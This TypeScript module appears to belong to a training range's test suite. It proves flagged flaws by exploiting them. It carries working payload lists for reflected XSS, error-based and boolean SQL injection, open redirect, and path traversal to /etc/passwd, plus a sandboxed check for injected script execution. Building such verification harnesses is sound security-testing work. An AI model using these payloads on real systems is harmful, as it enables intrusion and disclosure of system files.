/**
 * Proves that a spot of a site is really flawed, by exploiting it. For the range's own tests only: a proof
 * knows the range's pages, and tries far more than a scanner would.
 */
import { createContext, Script } from 'node:vm';
import { escaped, scriptString } from '@portal/sample-site/reply';
import { load } from 'cheerio';
import type { Spot } from './truth.ts';
import { type Answer, visit } from './visitor.ts';

/** The checks that can be proven here; the others have tests of their own. */
const proofs: Readonly<Record<string, (ask: Ask) => Promise<boolean>>> = {
  'xss-r': (ask) => anyOf(scripts, async (words) => runs(await ask(words))),
  'sqli-err': (ask) =>
    anyOf(["'", '"', "1'"], async (words) => {
      const complaint = /ERR_SQLITE_ERROR\)?: (?:unrecognized token|near )/;
      return complaint.test((await ask(words)).body) && !complaint.test((await ask('1')).body);
    }),
  'sqli-bool': (ask) => anyOf(questions, (question) => answersTo(question, ask)),
  redirect: (ask) => anyOf(elsewhere, async (words) => leaves(await ask(words))),
  traversal: (ask) =>
    anyOf(climbs, async (words) => {
      const opened = /^(?:.*<pre>)?root:x:0:0:.*\ndaemon:x:1:1:/m;
      return opened.test((await ask(words)).body);
    }),
};

type Ask = (words: string) => Promise<Answer>;

export function provable({ checkId, parameter }: Spot): boolean {
  return checkId in proofs && parameter !== undefined;
}

export async function proves(url: string, { checkId, method, path, parameter = '' }: Spot) {
  const proof = proofs[checkId];
  if (proof === undefined) throw new Error(`No proof of ${checkId}`);
  return proof((words) =>
    method === 'POST'
      ? visit(url, path, { form: { [parameter]: words } })
      : visit(url, `${path}?${new URLSearchParams({ [parameter]: words })}`),
  );
}

const scripts: readonly string[] = [
  '<img src=x onerror=proof()>',
  '--><img src=x onerror=proof()>',
  '</textarea><img src=x onerror=proof()>',
  '" onfocus="proof()" autofocus x="',
  "' onfocus='proof()' autofocus x='",
  'x onfocus=proof() autofocus',
  "';proof();//",
  '";proof();//',
  "'+proof()+'",
  'javascript:proof()',
];

/** Runs the page's scripts, event handlers and script addresses, and returns whether our code ran. */
export function runs(answer: Answer): boolean {
  if (!/^(?:text\/html|image\/svg)/.test(String(answer.headers['content-type']))) return false;
  const $ = load(answer.body);
  const codes = $('script:not([src])')
    .toArray()
    .map((script) => $(script).text());
  for (const element of $('*').toArray()) {
    for (const [name, value] of Object.entries($(element).attr() ?? {})) {
      if (name.startsWith('on')) codes.push(value);
      if (['href', 'src'].includes(name) && value.startsWith('javascript:'))
        codes.push(value.slice(11));
    }
  }
  return codes.some(ran);
}

function ran(code: string): boolean {
  let called = false;
  const page: unknown = new Proxy(() => page, {
    get: (_target, key) => (key === Symbol.toPrimitive ? () => '' : page),
    set: () => true,
  });
  const proof = () => {
    called = true;
  };
  try {
    const globals = { proof, document: page, location: {}, addEventListener: page };
    new Script(code).runInContext(createContext(globals), { timeout: 500 });
  } catch {
    // A script that throws after our code ran has still run it.
  }
  return called;
}

/** True and false statements, for each way in which the input may be quoted. */
const questions: readonly (readonly [yes: string, no: string])[] = [
  ['1 OR 1=1', '1 AND 1=2'],
  ["none' OR 'a'='a' -- ", "none' OR 'a'='b' -- "],
  ["') OR 'a'='a' -- ", "') OR 'a'='b' -- "],
  ['" OR "a"="a" -- ', '" OR "a"="b" -- '],
];

async function answersTo([yes, no]: readonly [string, string], ask: Ask): Promise<boolean> {
  const told = async (words: string) => {
    const { status, body } = await ask(words);
    // Text that a page merely repeats reveals nothing about a database.
    const repeated = [escaped(words), scriptString(words).slice(1, -1), words];
    return repeated.reduce((rest, words) => rest.replaceAll(words, ''), `${status} ${body}`);
  };
  const [first, other, again, otherAgain] = [
    await told(yes),
    await told(no),
    await told(yes),
    await told(no),
  ];
  return first === again && other === otherAgain && first !== other;
}

const elsewhere: readonly string[] = ['https://elsewhere.example/', '//elsewhere.example/'];

function leaves({ headers, body }: Answer): boolean {
  const $ = load(body);
  const targets = [
    headers.location,
    /url=(.*)/.exec($('meta[http-equiv="refresh"]').attr('content') ?? '')?.[1],
    /location\.href = "(.*)";/.exec($('script').text())?.[1],
  ];
  return targets.some((target) => {
    const base = 'http://here.example/';
    return target !== undefined && new URL(String(target), base).host === 'elsewhere.example';
  });
}

const climbs: readonly string[] = [
  '../../../../etc/passwd',
  '/etc/passwd',
  '....//....//....//....//etc/passwd',
];

async function anyOf<T>(all: readonly T[], holds: (one: T) => Promise<boolean>): Promise<boolean> {
  for (const one of all) if (await holds(one)) return true;
  return false;
}
